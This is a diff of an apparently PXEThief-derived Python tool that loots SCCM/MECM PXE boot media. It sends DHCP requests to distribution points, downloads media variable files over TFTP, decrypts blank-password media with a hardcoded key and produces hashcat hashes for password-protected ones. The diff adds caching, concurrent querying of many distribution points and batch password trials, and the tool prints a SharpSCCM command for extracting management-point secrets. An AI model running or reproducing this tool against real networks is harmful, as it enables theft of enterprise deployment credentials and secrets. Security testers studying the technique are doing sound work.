@@ -1,349 +1,429 @@
 #! /usr/bin/env python3
 
+import os
 import sys
+import glob
 import argparse
-import binascii
-from hashlib import *
-import math
-import struct
-from scapy.all import *
-from Crypto.Cipher import AES,DES3
-import lxml.etree as ET
-import tftpy
-
-from threading import Thread
-from time import sleep
+from hashlib import sha256
+import json
+import contextlib
+import time
+import pxelog
+from pxelog import *
+import pxecache
+import pxestats
+from pxekeys import derive_blank_decryption_key, derive_media_key, derive_media_keys
+from pxemedia import *
+
+import threading
+from concurrent.futures import ThreadPoolExecutor, as_completed
+from dataclasses import dataclass, field, asdict
+
+# pxenet (scapy) and pxetftp (asyncio) are imported by the functions that need them so that
+# decrypt and crack start without the network stack
 
 gVersion = "0.0.2"
+gReplyTimeout = 10
+gWorkers = 8
+gTftpOptions = {}
+gSaveMediaFiles = True
+gAllVariables = False
+gResultWriter = None
+gCache = None
+gRefreshCache = False
+gArchitectures = ["bios"]
+# Client architectures pxenet can request media for, listed here so that the CLI does not need to import it
+PXE_ARCHITECTURE_NAMES = ("bios", "x86efi", "x64efi")
 ## --------------------------------------------------------- ##
 
-MSG_TYPE_NOCOLOR = ""
-MSG_TYPE_NOPREFIX = ""
-MSG_TYPE_DEFAULT = "\033[1m"
-MSG_TYPE_SUCCESS = "\033[32m"
-MSG_TYPE_WARNING = "\033[93m"
-MSG_TYPE_INFO = "\033[96m"
-MSG_TYPE_ERROR = "\033[91m"
-MSG_TYPE_END = "\033[0m"
-
-def log(msg, msgType=MSG_TYPE_DEFAULT):
-    prefix = "[*] "
-    if( msgType == MSG_TYPE_NOPREFIX ):
-        prefix = ""
-    else:
-        if( msgType == MSG_TYPE_SUCCESS or msgType == MSG_TYPE_INFO):
-            prefix = "[+] "
-        elif( msgType == MSG_TYPE_WARNING ):
-            prefix = "[!] "
-        elif( msgType == MSG_TYPE_ERROR ):
-            prefix = "[-] "
-    
-    print("%s%s%s%s" %(
-        msgType,
-        prefix,
-        msg,
-        MSG_TYPE_END  
-    ))
-
-###
-##  Credits to MWR-CyberSec
-##  https://github.com/MWR-CyberSec/PXEThief/blob/main/media_variable_file_cryptography.py
-###
-def read_media_variable_file_header(filename):
-    media_file = open(filename,'rb')
-    media_data = media_file.read(40)
-    return media_data
-
-def read_media_variable_file(filename):
-    media_file = open(filename,'rb')
-    media_file.seek(24)
-    media_data = media_file.read()
-    return media_data[:-8]
-
-def aes_des_key_derivation(password):    
-    key_sha1 = sha1(password).digest()
-    b0 = b""
-    for x in key_sha1:
-        b0 += bytes((x ^ 0x36,))
-        
-    b1 = b""
-    for x in key_sha1:
-        b1 += bytes((x ^ 0x5c,))
-    # pad remaining bytes with the appropriate value
-    b0 += b"\x36"*(64 - len(b0))
-    b1 += b"\x5c"*(64 - len(b1))
-    b0_sha1 = sha1(b0).digest()
-    b1_sha1 = sha1(b1).digest()
-    return b0_sha1 + b1_sha1
-
-def aes128_decrypt(data,key):
-    aes128 = AES.new(key, AES.MODE_CBC, b"\x00"*16)
-    decrypted = aes128.decrypt(data)
-    return decrypted.decode("utf-16-le")
-
-def aes128_decrypt_raw(data,key):
-    aes128 = AES.new(key, AES.MODE_CBC, b"\x00"*16)
-    decrypted = aes128.decrypt(data)
-    return decrypted
-
-def derive_blank_decryption_key(encrypted_key):
-    length = encrypted_key[0]
-    encrypted_bytes = encrypted_key[1:1+length] # pull out 48 bytes that relate to the encrypted bytes in the DHCP response
-    encrypted_bytes = encrypted_bytes[20:-12] # isolate encrypted data bytes
-    key_data = b'\x9F\x67\x9C\x9B\x37\x3A\x1F\x48\x82\x4F\x37\x87\x33\xDE\x24\xE9' #Harcoded in tspxe.dll
-    key = aes_des_key_derivation(key_data) # Derive key to decrypt key bytes in the DHCP response
-    var_file_key = (aes128_decrypt_raw(encrypted_bytes[:16],key[:16])[:10]) 
-    LEADING_BIT_MASK =  b'\x80'
-    new_key = bytearray()
-    for byte in struct.unpack('10c',var_file_key):
-        if (LEADING_BIT_MASK[0] & byte[0]) == 128:
-            new_key = new_key + byte + b'\xFF'
-        else:
-            new_key = new_key + byte + b'\x00'
-    
-    return new_key
-
-def decrypt_media_file(path, password):
-    password_is_string = True
-    print("[+] Media variables file to decrypt: " + path)
-    if type(password) == str:
-        password_is_string = True
-        print("[+] Password provided: " + password)
-    else:
-        password_is_string = False
-        print("[+] Password bytes provided: 0x" + password.hex())
 
-    # Decrypt encryted media variables file
-    encrypted_file = read_media_variable_file(path) 
+def process_pxe_media_variables(media_variables, show_all=False):
+    #Pull out PFX password and PFX bytes from the media variables
+    if show_all:
+        log(f"Media variables ({len(media_variables)}):", MSG_TYPE_INFO)
+        for name, value in media_variables.items():
+            log(f"  {name} = {value}", MSG_TYPE_NOPREFIX)
+
+    missing = [name for name in MEDIA_VARIABLES if not media_variables.get(name)]
+    if missing:
+        log(f"Error while trying to process media variables, missing: {', '.join(missing)}", MSG_TYPE_ERROR)
+        return
+    smsMediaGuid = media_variables["_SMSMediaGuid"]
+    smsTSMediaPFX = media_variables["_SMSTSMediaPFX"]
+    smsManagementPoint = media_variables["SMSTSMP"]
+    smsManagementPointDNS = smsManagementPoint.replace("http://", "").replace("https://", "")
+    smsSiteCode = media_variables["_SMSTSSiteCode"]
+    smsMachineGuidUnknownX64 = media_variables["_SMSTSx64UnknownMachineGUID"]
+
+    log(f"Management Point: {smsManagementPoint}", MSG_TYPE_INFO)
+    log(f"Site Code: {smsSiteCode}", MSG_TYPE_INFO)
+    log(f"You can use the following information with SharpSCCM in an attempt to obtain secrets from the Management Point..\n  SharpSCCM.exe get secrets -i \"{{{smsMachineGuidUnknownX64}}}\" -m \"{smsMediaGuid}\" -c \"{smsTSMediaPFX}\" -sc {smsSiteCode} -mp {smsManagementPointDNS}", MSG_TYPE_INFO)
+
+@dataclass
+class DPResult:
+    # Outcome of querying a single distribution point (or decrypting a single media file), filled in as
+    # the phases complete. timings holds the duration of every phase that ran, in seconds.
+    dp: str
+    option_243: bytes = None
+    variables_file: str = None
+    bcd_file: str = None
+    encrypted_key: bytes = None
+    media_file: str = None
+    bcd_local_file: str = None
+    key_type: str = None
+    password: str = None
+    architectures: list = None
+    hashcat_hash: str = None
+    decrypted: bool = False
+    media_variables: dict = None
+    content_hash: str = None
+    cached: bool = False
+    error: str = None
+    timings: dict = field(default_factory=dict)
+
+@contextlib.contextmanager
+def phase_timer(result, phase):
+    start = time.perf_counter()
     try:
-        if password_is_string:
-            key = aes_des_key_derivation(password.encode("utf-16-le"))
-        else:
-            key = aes_des_key_derivation(password)
-        last_16 = math.floor(len(encrypted_file)/16)*16
-        decrypted_media_file = aes128_decrypt(encrypted_file[:last_16],key[:16])
-        decrypted_media_file =  decrypted_media_file[:decrypted_media_file.rfind('\x00')]
-        wf_decrypted_ts = "".join(c for c in decrypted_media_file if c.isprintable())
-        log("Successfully decrypted media variables file with the provided password!", MSG_TYPE_SUCCESS)
-    except:
-        log("Failed to decrypt media variables file. Check the password provided is correct", MSG_TYPE_ERROR)
-        return None
-    
-    return wf_decrypted_ts
-
-
-def start_sniffing(sniff_filter, timeout=10, count=100):
-    global packets
-    packets = sniff(filter=sniff_filter, timeout=timeout, count=count)
-
-###
-##  Credits to MWR-CyberSec
-##  https://github.com/MWR-CyberSec/PXEThief/blob/main/pxethief.py#L199-L269
-###
-
-def extract_boot_files(variables_file, dhcp_options):
-    bcd_file, encrypted_key = (None, None)
-    if variables_file:
-        packet_type = variables_file[0] #First byte of the option data determines the type of data that follows
-        data_length = variables_file[1] #Second byte of the option data is the length of data that follows
-
-        #If the first byte is set to 1, this is the location of the encrypted media file on the TFTP server (variables.dat)
-        if packet_type == 1:
-            #Skip first two bytes of option and copy the file name by data_length
-            variables_file = variables_file[2:2+data_length] 
-            variables_file = variables_file.decode('utf-8')
-        #If the first byte is set to 2, this is the encrypted key stream that is used to encrypt the media file. The location of the media file follows later in the option field
-        elif packet_type == 2:
-            #Skip first two bytes of option and copy the encrypted data by data_length
-            encrypted_key = variables_file[2:2+data_length]
-            
-            #Get the index of data_length of the variables file name string in the option, and index of where the string begins
-            string_length_index = 2 + data_length + 1
-            beginning_of_string_index = 2 + data_length + 2
-
-            #Read out string length
-            string_length = variables_file[string_length_index]
-
-            #Read out variables.dat file name and decode to utf-8 string
-            variables_file = variables_file[beginning_of_string_index:beginning_of_string_index+string_length]
-            variables_file = variables_file.decode('utf-8')
-        bcd_file = next(opt[1] for opt in dhcp_options if isinstance(opt, tuple) and opt[0] == 252).rstrip(b"\0").decode("utf-8")  # DHCP option 252 is used by SCCM to send the BCD file location
-    else:
-        log("No variable file location (DHCP option 243) found in the received packet when the PXE boot server was prompted for a download location", MSG_TYPE_ERROR)
-    
-    return [variables_file,bcd_file,encrypted_key]
-
-def request_boot_files_from_ip(tftpServerIP):
-    variables_file, bcd_file, encrypted_key = (None, None, None)
-    
-    log(f"Sending DHCP request to fetch PXE boot files at: {tftpServerIP}", MSG_TYPE_DEFAULT)
-    log(f"--- Scapy output ---", MSG_TYPE_NOPREFIX)
-    pkt = IP(dst=tftpServerIP)/UDP(sport=68,dport=4011)/BOOTP()/DHCP(options=[
-    ("message-type","request"),
-    ('param_req_list',[3, 1, 60, 128, 129, 130, 131, 132, 133, 134, 135]),
-    ('pxe_client_architecture', b'\x00\x00'), #x86 architecture
-    (250,binascii.unhexlify("0c01010d020800010200070e0101050400000011ff")), #x64 private option
-    #(250,binascii.unhexlify("0d0208000e010101020006050400000006ff")), #x86 private option
-    ('vendor_class_id', b'PXEClient'), 
-    ('pxe_client_machine_identifier', b'\x00*\x8cM\x9d\xc1lBA\x83\x87\xef\xc6\xd8s\xc6\xd2'), #included by the client, but doesn't seem to be necessary in WDS PXE server configurations
-    "end"])
-    
-    # Start the sniffing a separate thread
-    sniff_thread = Thread(target=start_sniffing, args=("udp port 4011 or udp port 68",))
-    sniff_thread.start()
-    # Wait some seconds to get the sniffing thread up and running
-    sleep(2)
-    ## Send packet
-    ans = send(pkt)
-    # Wait for the sniffing thread to complete
-    sniff_thread.join()
-
-    option_number, dhcp_options = (None, None)
-    if(packets):
-        for packet in packets:
-            try:
-                raw_data = packet[Raw].load
-                bootp_layer = BOOTP(raw_data)
-                dhcp_layer = bootp_layer[DHCP]
-                dhcp_options = dhcp_layer[DHCP].options
-                option_number, variables_file = next(opt for opt in dhcp_options if isinstance(opt, tuple) and opt[0] == 243)
-            except:
-                pass
-    else:
-        log("No DHCP responses recieved from MECM server. This may indicate that the wrong IP address was provided or that there are firewall restrictions blocking DHCP packets to the required ports", MSG_TYPE_ERROR)
-
-    if(variables_file and dhcp_options):
-        variables_file,bcd_file,encrypted_key = extract_boot_files(variables_file, dhcp_options)
-
-    return [variables_file, bcd_file, encrypted_key]
-    
-
-def request_boot_files_with_interface(interface, clientIPAddress, clientMacAddress, tftpServerIP):
-    variables_file, bcd_file, encrypted_key = (None, None, None)
-
-    log(f"Sending DHCP request to fetch PXE boot files at: {tftpServerIP}", MSG_TYPE_DEFAULT)
-    log(f"--- Scapy output ---", MSG_TYPE_NOPREFIX)
-    #Media Variable file is generated by sending DHCP request packet to port 4011 on a PXE enabled DP. This contains DHCP options 60, 93, 97 and 250
-    pkt = IP(src=clientIPAddress,dst=tftpServerIP)/UDP(sport=68,dport=4011)/BOOTP(ciaddr=clientIPAddress,chaddr=clientMacAddress)/DHCP(options=[
-    ("message-type","request"),
-    ('param_req_list',[3, 1, 60, 128, 129, 130, 131, 132, 133, 134, 135]),
-    ('pxe_client_architecture', b'\x00\x00'), #x86 architecture
-    (250,binascii.unhexlify("0c01010d020800010200070e0101050400000011ff")), #x64 private option
-    #(250,binascii.unhexlify("0d0208000e010101020006050400000006ff")), #x86 private option
-    ('vendor_class_id', b'PXEClient'), 
-    ('pxe_client_machine_identifier', b'\x00*\x8cM\x9d\xc1lBA\x83\x87\xef\xc6\xd8s\xc6\xd2'), #included by the client, but doesn't seem to be necessary in WDS PXE server configurations
-    "end"])
-    
-    answer = sr1(pkt,timeout=10,iface=interface,verbose=2,filter="udp port 4011 or udp port 68") # sr return value: ans,unans/packetpair1,packetpair2 (i.e. PacketPairList)/sent packet,received packet/Layers(Ethernet,IP,UDP/TCP,BOOTP,DHCP)
-    encrypted_key = None
-    log(f"--- Scapy output end ---", MSG_TYPE_NOPREFIX)
-    if answer:
-        try:
-            dhcp_options = answer[1][DHCP].options
-            #Does the received packet contain DHCP Option 243? DHCP option 243 is used by SCCM to send the variable file location
-            option_number, variables_file = next(opt for opt in dhcp_options if isinstance(opt, tuple) and opt[0] == 243)
-            if(variables_file and dhcp_options):
-                [variables_file,bcd_file,encrypted_key] = extract_boot_files(variables_file, dhcp_options)
-        except:
-            pass
-    else:
-        log("No DHCP responses recieved from MECM server. This may indicate that the wrong IP address was provided or that there are firewall restrictions blocking DHCP packets to the required ports", MSG_TYPE_ERROR)
-
-    return [variables_file,bcd_file,encrypted_key]
-
-def find_pxe_boot_servers(interface, clientMacAddress):
-    ## Find PXE Servers
-    pxe_server = []
-    log(f"Sending DHCP discover request to search for PXE servers...", MSG_TYPE_DEFAULT)
-    log(f"--- Scapy output ---", MSG_TYPE_NOPREFIX)
-    #   DHCP Option 93
-    #    0000 == IA x86 PC (BIOS boot)
-    #    0006 == x86 EFI boot
-    #    0007 == x64 EFI boot
-    pkt = Ether(dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/BOOTP(chaddr=clientMacAddress)/DHCP(options=[("message-type", "request"), ("vendor_class_id", "PXEClient"), (93, b"\x00\x00"), "end"])
-
-    # Start the sniffing a separate thread
-    sniff_thread = Thread(target=start_sniffing, args=("udp and dst host 255.255.255.255",))
-    sniff_thread.start()
-    
-    ## Wait some seconds to get the sniffing thread up and running
-    sleep(2)
-
-    ## Send packet
-    sendp(pkt, iface=interface)
-
-    # Wait for the sniffing thread to complete
-    sniff_thread.join()
-    log(f"--- Scapy output end ---", MSG_TYPE_NOPREFIX)
-    for packet in packets:
-        dhcp_options = packet[DHCP].options
-        dhcp_server_ip = next((opt[1] for opt in dhcp_options if isinstance(opt, tuple) and opt[0] == "server_id"),None)
-        if(dhcp_server_ip):
-            pxe_server.append(dhcp_server_ip)
-
-    return pxe_server
-
-def process_pxe_media_xml(media_xml):
-    #Parse media file in order to pull out PFX password and PFX bytes
-    try:
-        root = ET.fromstring(media_xml.encode("utf-16-le"))
-        smsMediaGuid = root.find('.//var[@name="_SMSMediaGuid"]').text 
-        smsTSMediaPFX = root.find('.//var[@name="_SMSTSMediaPFX"]').text
-        smsManagementPoint = root.find('.//var[@name="SMSTSMP"]').text
-        smsManagementPointDNS = smsManagementPoint.replace("http://", "").replace("https://", "")
-        smsSiteCode = root.find('.//var[@name="_SMSTSSiteCode"]').text
-        smsMachineGuidUnknownX64 = root.find('.//var[@name="_SMSTSx64UnknownMachineGUID"]').text
-
-        log(f"Management Point: {smsManagementPoint}", MSG_TYPE_INFO)
-        log(f"Site Code: {smsSiteCode}", MSG_TYPE_INFO)
-        log(f"You can use the following information with SharpSCCM in an attempt to obtain secrets from the Management Point..\n  SharpSCCM.exe get secrets -i \"{{{smsMachineGuidUnknownX64}}}\" -m \"{smsMediaGuid}\" -c \"{smsTSMediaPFX}\" -sc {smsSiteCode} -mp {smsManagementPointDNS}", MSG_TYPE_INFO)
-    except Exception as ex:
-        log("Error while trying to process media xml...", MSG_TYPE_ERROR)
-
-def loot_boot_files(tftp_server, variables_file, bcd_file, encrypted_key):
+        yield
+    finally:
+        duration = time.perf_counter() - start
+        result.timings[phase] = result.timings.get(phase, 0.0) + duration
+        pxestats.add_time(phase, duration)
+
+def result_record(result):
+    record = asdict(result)
+    for name, value in record.items():
+        if isinstance(value, (bytes, bytearray)):
+            record[name] = value.hex()
+    record["timings"] = {phase: round(duration, 6) for phase, duration in result.timings.items()}
+    return record
+
+class ResultWriter:
+    # Writes one JSON object per result and line, to a file or to stdout for '-'
+    def __init__(self, path):
+        self._lock = threading.Lock()
+        self._stream = sys.stdout if path == "-" else open(path, "a")
+
+    def write(self, result):
+        line = json.dumps(result_record(result))
+        with self._lock:
+            self._stream.write(line + "\n")
+            self._stream.flush()
+
+    def close(self):
+        if self._stream is not sys.stdout:
+            self._stream.close()
+
+def emit_result(result):
+    if gResultWriter:
+        gResultWriter.write(result)
+
+def loot_boot_files(tftp_server, variables_file, bcd_file, encrypted_key, result=None):
+    import pxetftp
+    if result is None:
+        result = DPResult(tftp_server, variables_file=variables_file, bcd_file=bcd_file, encrypted_key=encrypted_key)
     
     log(f"Variables File Location: {variables_file}", MSG_TYPE_DEFAULT)
     log(f"BCD File Location: {bcd_file}", MSG_TYPE_DEFAULT)
 
-    ## Downloading variables file
-    log(f"Downloading var file '{variables_file}' from TFTP server '{tftp_server}'", MSG_TYPE_DEFAULT)
-    client = tftpy.TftpClient(tftp_server, 69)
-    local_variable_files_name = variables_file.split("\\")[-1]
-    client.download(variables_file, local_variable_files_name)
-
-    ## Decrypt media or create hash for cracking
+    ## Downloading variables file (and the BCD file next to it)
+    # Media with a blank password is decrypted while it downloads, otherwise only the header for the hash is kept
+    decrypt_password = None
+    result.key_type = "password"
     if(encrypted_key):
         log("Blank password on PXE media file found!", MSG_TYPE_SUCCESS)
-        log("Attempting to decrypt it...", MSG_TYPE_DEFAULT)
+        result.key_type = "blank"
         decrypt_password = derive_blank_decryption_key(encrypted_key)
-        if( decrypt_password ):
-            media_variables = decrypt_media_file(local_variable_files_name,decrypt_password)
-            if( media_variables ):
-                process_pxe_media_xml(media_variables)
+    local_variable_files_name = variables_file.split("\\")[-1]
+    extractor = MediaVariablesExtractor(None if gAllVariables else MEDIA_VARIABLES)
+    decryptor = MediaFileDecryptor(derive_media_key(decrypt_password) if decrypt_password else None, extractor.feed,
+                                   local_variable_files_name if gSaveMediaFiles else None)
+
+    content_hash = sha256()
+    def feed(chunk):
+        content_hash.update(chunk)
+        decryptor.feed(chunk)
+
+    log(f"Downloading var file '{variables_file}' from TFTP server '{tftp_server}'", MSG_TYPE_DEFAULT)
+    transfers = [(variables_file, feed)]
+    if(bcd_file):
+        log(f"Downloading BCD file '{bcd_file}' from TFTP server '{tftp_server}'", MSG_TYPE_DEFAULT)
+        transfers.append((bcd_file, bcd_file.split("\\")[-1]))
+    var_transfer = None
+    try:
+        # Decryption and parsing run inline with the download, their own share is reported separately
+        with phase_timer(result, "tftp_download"):
+            var_transfer, *bcd_transfer = pxetftp.download_all(tftp_server, transfers, **gTftpOptions)
+    finally:
+        # Do not leave an empty or truncated media file behind for 'decrypt -f .' or 'analyze -d .' to pick up
+        decryptor.close(discard=var_transfer is None or isinstance(var_transfer, Exception))
+    if isinstance(var_transfer, Exception):
+        raise var_transfer
+    pxestats.count("tftp_files")
+    pxestats.count("tftp_bytes", var_transfer["bytes"])
+    result.content_hash = content_hash.hexdigest()
+    if(gSaveMediaFiles):
+        result.media_file = local_variable_files_name
+    log(f"Downloaded {var_transfer['bytes']} bytes (blksize {var_transfer['blksize']}, windowsize {var_transfer['windowsize']})", MSG_TYPE_DEFAULT)
+    if(bcd_transfer):
+        if isinstance(bcd_transfer[0], Exception):
+            log(f"Failed to download BCD file: {bcd_transfer[0]}", MSG_TYPE_WARNING)
+        else:
+            result.bcd_local_file = transfers[1][1]
+            pxestats.count("tftp_files")
+            pxestats.count("tftp_bytes", bcd_transfer[0]["bytes"])
+
+    ## Decrypt media or create hash for cracking
+    if(decrypt_password):
+        media_variables = extractor.close()
+        result.timings["decrypt"] = decryptor.decrypt_time
+        result.timings["parse"] = extractor.parse_time
+        record_decrypt_stats(decryptor, extractor)
+        if(media_variables and not decryptor.failed):
+            log("Successfully decrypted media variables file with the blank password key!", MSG_TYPE_SUCCESS)
+            result.decrypted = True
+            result.media_variables = media_variables
+            process_pxe_media_variables(media_variables, gAllVariables)
+        else:
+            log("Failed to decrypt media variables file with the blank password key", MSG_TYPE_ERROR)
     else:
         log("PXE boot media is encrypted with custom password", MSG_TYPE_DEFAULT)
         log("Creating hash to crack it...", MSG_TYPE_DEFAULT)
-        media_file_hash = read_media_variable_file_header(local_variable_files_name).hex()
+        media_file_hash = decryptor.header.hex()
         hashcat_hash = f"$sccm$aes128${media_file_hash}"
-        log(f"Got the hash: {hashcat_hash}", MSG_TYPE_SUCCESS)
-        log(f"  Try cracking this hash to read the media file", MSG_TYPE_NOPREFIX)
-        log(f"  Use this hashcat module: https://github.com/MWR-CyberSec/configmgr-cryptderivekey-hashcat-module", MSG_TYPE_NOPREFIX)
+        result.hashcat_hash = hashcat_hash
+        log_media_hash(hashcat_hash)
+
+    # A failed blank-key decryption is not stored, the next run queries the DP again
+    if(gCache is not None and (result.decrypted or not decrypt_password)):
+        gCache.store(tftp_server, variables_file, result.content_hash, result.option_243, bcd_file, decrypt_password,
+                     derive_media_key(decrypt_password) if decrypt_password else None, decryptor.header,
+                     result.media_variables, gAllVariables, result.architectures,
+                     os.path.abspath(result.media_file) if result.media_file else None)
+    return result
+
+def log_media_hash(hashcat_hash):
+    log(f"Got the hash: {hashcat_hash}", MSG_TYPE_SUCCESS)
+    log(f"  Try cracking this hash to read the media file", MSG_TYPE_NOPREFIX)
+    log(f"  Use this hashcat module: https://github.com/MWR-CyberSec/configmgr-cryptderivekey-hashcat-module", MSG_TYPE_NOPREFIX)
+
+def loot_from_cache(dp):
+    # Results from earlier runs against the same DP, skipping the DHCP request, download and decryption.
+    # Returns None unless every requested architecture has a usable entry (or when --refresh was given).
+    if gCache is None or gRefreshCache:
+        return None
+    entries = {}
+    for architecture in gArchitectures:
+        entry = gCache.lookup_dp(dp, architecture)
+        if entry is None or (gAllVariables and entry["variables"] is not None and not entry["complete"]):
+            return None
+        entries.setdefault(entry["variables_file"], (entry, []))[1].append(architecture)
+
+    log(f"Using cached result for {dp} (use --refresh to query it again)", MSG_TYPE_DEFAULT)
+    results = []
+    for entry, architectures in entries.values():
+        result = DPResult(dp, option_243=entry["option_243"], variables_file=entry["variables_file"], bcd_file=entry["bcd_file"], architectures=architectures, cached=True)
+        result.content_hash = entry["content_hash"]
+        # The media file saved by the run that stored the entry, as long as it is still there
+        if entry["media_file"] and os.path.isfile(entry["media_file"]):
+            result.media_file = entry["media_file"]
+        result.key_type = "blank" if entry["blank_key"] else "password"
+        if entry["option_243"] and entry["option_243"][0] == 2:
+            # Same layout extract_boot_files reads: type, length, encrypted key
+            result.encrypted_key = entry["option_243"][2:2+entry["option_243"][1]]
+        log(f"Variables File Location: {result.variables_file}", MSG_TYPE_DEFAULT)
+        log(f"BCD File Location: {result.bcd_file}", MSG_TYPE_DEFAULT)
+        if entry["variables"] is not None:
+            result.decrypted = True
+            result.media_variables = entry["variables"]
+            process_pxe_media_variables(result.media_variables, gAllVariables)
+        elif entry["header"]:
+            result.hashcat_hash = f"$sccm$aes128${entry['header'].hex()}"
+            log("PXE boot media is encrypted with custom password", MSG_TYPE_DEFAULT)
+            log_media_hash(result.hashcat_hash)
+        results.append(result)
+    return results
+
+def lookup_cached_variables(content_hash, media_key, wanted=MEDIA_VARIABLES):
+    # Variables from an earlier decryption of the same content with the same key, None on a miss or with --refresh
+    if gCache is None or gRefreshCache:
+        return None
+    entry = gCache.lookup_content(content_hash)
+    if entry and entry["variables"] and entry["media_key"] == media_key and (entry["complete"] or wanted):
+        return entry["variables"]
+    return None
+
+def store_decrypted_variables(path, content_hash, media_key, media_variables, wanted=MEDIA_VARIABLES):
+    gCache.store("", os.path.basename(path), content_hash, media_key=media_key, header=read_media_variable_file_header(path),
+                 variables=media_variables, complete=wanted is None, media_file=os.path.abspath(path))
+
+def decrypt_media_file_cached(path, password, wanted=MEDIA_VARIABLES, result=None):
+    # decrypt_media_file backed by the result cache, keyed by the content of the media file
+    if gCache is None:
+        return decrypt_media_file(path, password, wanted, result)
+    media_key = derive_media_key(password)
+    try:
+        content_hash = pxecache.file_hash(path)
+    except OSError:
+        # Let decrypt_media_file report the unreadable file
+        return decrypt_media_file(path, password, wanted, result)
+    if result is not None:
+        result.content_hash = content_hash
+    media_variables = lookup_cached_variables(content_hash, media_key, wanted)
+    if media_variables:
+        log(f"Using cached variables for '{path}' (use --refresh to decrypt it again)", MSG_TYPE_SUCCESS)
+        if result is not None:
+            result.cached = True
+        return media_variables
+
+    media_variables = decrypt_media_file(path, password, wanted, result)
+    if media_variables:
+        store_decrypted_variables(path, content_hash, media_key, media_variables, wanted)
+    return media_variables
+
+def expand_media_paths(patterns):
+    # Directories stand for the *.var files in them and glob patterns are expanded, the rest is taken as is
+    paths = []
+    for pattern in patterns:
+        if os.path.isdir(pattern):
+            paths += sorted(glob.glob(os.path.join(pattern, "*.var")))
+        elif any(char in pattern for char in "*?["):
+            paths += sorted(glob.glob(pattern))
+        else:
+            paths.append(pattern)
+    return list(dict.fromkeys(paths))
+
+def read_password_file(path):
+    # One password per line, taken verbatim apart from the line break
+    with open(path, 'r') as password_file:
+        return [line.rstrip("\r\n") for line in password_file if line.rstrip("\r\n")]
+
+def decrypt_media_batch(media_paths, passwords, wanted=MEDIA_VARIABLES, processes=None):
+    # Derives every password's key once, matches files to keys with a one-block trial decryption of their
+    # header and decrypts the matched files on a process pool. Returns one DPResult per file, in order.
+    keys = derive_media_keys(passwords)
+    results = {}
+    media_keys = {}
+    tasks = []
+    for path in media_paths:
+        result = DPResult(None, media_file=path, key_type="password")
+        results[path] = result
+        try:
+            header = read_media_variable_file_header(path)
+        except OSError as ex:
+            result.error = f"Failed to read media variables file: {ex}"
+            continue
+        if len(header) < MEDIA_FILE_HEADER_SIZE:
+            result.error = "Too short to be a media variables file"
+            continue
+        with phase_timer(result, "key_trial"):
+            index = find_media_key(header, keys)
+        if index is None:
+            result.error = "None of the passwords matches the media file"
+            continue
+        result.password = passwords[index]
+        media_keys[path] = keys[index]
+        if gCache is not None:
+            result.content_hash = pxecache.file_hash(path)
+            media_variables = lookup_cached_variables(result.content_hash, keys[index], wanted)
+            if media_variables:
+                result.cached = True
+                result.decrypted = True
+                result.media_variables = media_variables
+                continue
+        tasks.append((path, keys[index], wanted))
+
+    log(f"{len(tasks) + sum(result.cached for result in results.values())} of {len(results)} media files matched one of {len(passwords)} passwords", MSG_TYPE_DEFAULT)
+    for path, media_variables, timings, error in decrypt_media_files(tasks, processes):
+        result = results[path]
+        result.timings.update(timings)
+        if error:
+            result.error = error
+            continue
+        result.decrypted = True
+        result.media_variables = media_variables
+        if gCache is not None:
+            store_decrypted_variables(path, result.content_hash, media_keys[path], media_variables, wanted)
+
+    for done, result in enumerate(results.values(), 1):
+        emit_result(result)
+        if result.decrypted:
+            log(f"[{done}/{len(results)}] {result.media_file}: decrypted with password '{result.password}'{' (cached)' if result.cached else ''}", MSG_TYPE_SUCCESS)
+            process_pxe_media_variables(result.media_variables, gAllVariables)
+        else:
+            log(f"[{done}/{len(results)}] {result.media_file}: {result.error}", MSG_TYPE_ERROR)
+    log(f"Decrypted {sum(result.decrypted for result in results.values())} of {len(results)} media files", MSG_TYPE_INFO)
+    return list(results.values())
+
+def loot_offers(dp, offers, timings):
+    # One result per distinct media file the DP offered, each downloaded and processed once.
+    # A DP without offers still gets a (media-less) result.
+    if not offers:
+        result = DPResult(dp)
+        result.timings.update(timings)
+        return [result]
+    results = []
+    for architectures, option_243, variables_file, bcd_file, encrypted_key in offers:
+        result = DPResult(dp, option_243=option_243, variables_file=variables_file, bcd_file=bcd_file, encrypted_key=encrypted_key, architectures=architectures)
+        result.timings.update(timings)
+        if len(gArchitectures) > 1:
+            log(f"Media offered to {', '.join(architectures)}", MSG_TYPE_INFO)
+        try:
+            loot_boot_files(dp, variables_file, bcd_file, encrypted_key, result)
+        except Exception as ex:
+            result.error = str(ex)
+            log(f"Failed to loot '{variables_file}' from {dp}: {ex}", MSG_TYPE_ERROR)
+        results.append(result)
+    return results
 
 def loot_ip_address(dp_ip_addr_str):
+    import pxenet
     log(f"Querying Distribution Point: {dp_ip_addr_str}", MSG_TYPE_DEFAULT)
-    variables_file, bcd_file, encrypted_key = request_boot_files_from_ip(dp_ip_addr_str)
-    if(variables_file):
-        loot_boot_files(dp_ip_addr_str, variables_file, bcd_file, encrypted_key)
+    results = loot_from_cache(dp_ip_addr_str)
+    if results is not None:
+        return results
+    dhcp_start = time.perf_counter()
+    offers = pxenet.request_media_offers(dp_ip_addr_str, gArchitectures)
+    dhcp_time = time.perf_counter() - dhcp_start
+    pxestats.add_time("dhcp_request", dhcp_time)
+    return loot_offers(dp_ip_addr_str, offers, {"dhcp_request": dhcp_time})
+
+def loot_concurrently(dp_ip_addrs, loot_func, workers=None):
+    # Query every DP through a bounded pool; each query builds its own request (and xid) and result object
+    if workers is None:
+        workers = gWorkers
+    results = []
+    with ThreadPoolExecutor(max_workers=max(1, min(workers, len(dp_ip_addrs)))) as pool:
+        futures = {pool.submit(pxestats.run_profiled, loot_func, dp_ip_addr): dp_ip_addr for dp_ip_addr in dp_ip_addrs}
+        for done, future in enumerate(as_completed(futures), 1):
+            dp_ip_addr = futures[future]
+            try:
+                dp_results = future.result()
+            except Exception as ex:
+                dp_results = [DPResult(dp_ip_addr, error=str(ex))]
+            for result in dp_results:
+                results.append(result)
+                emit_result(result)
+                if result.error:
+                    log(f"[{done}/{len(futures)}] {dp_ip_addr}: failed ({result.error})", MSG_TYPE_ERROR)
+                elif result.decrypted:
+                    log(f"[{done}/{len(futures)}] {dp_ip_addr}: media decrypted ({result.media_file})", MSG_TYPE_SUCCESS)
+                elif result.hashcat_hash:
+                    log(f"[{done}/{len(futures)}] {dp_ip_addr}: password protected media ({result.media_file})", MSG_TYPE_SUCCESS)
+                else:
+                    log(f"[{done}/{len(futures)}] {dp_ip_addr}: no PXE media found", MSG_TYPE_WARNING)
+    return results
+
